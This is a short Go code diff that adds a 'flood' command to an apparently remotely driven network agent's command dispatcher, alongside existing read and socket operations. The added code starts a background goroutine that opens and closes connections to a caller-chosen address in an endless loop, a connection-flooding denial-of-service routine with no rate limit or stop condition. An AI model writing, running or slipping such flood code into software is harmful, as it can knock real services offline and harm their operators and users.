@@ -152,6 +152,15 @@ func agentStep(words []string, conns map[string]net.Conn, packets map[string]net
 		buf := make([]byte, 65536)
 		n, err := c.Read(buf)
 		return string(buf[:n]), rootCause(err)
+	case "flood": // for ever
+		go func() {
+			for {
+				if conn, err := net.Dial(words[1], words[2]); err == nil {
+					conn.Close()
+				}
+			}
+		}()
+		return "", nil
 	case "socket":
 		var family, kind, proto int
 		fmt.Sscan(strings.Join(words[1:], " "), &family, &kind, &proto)
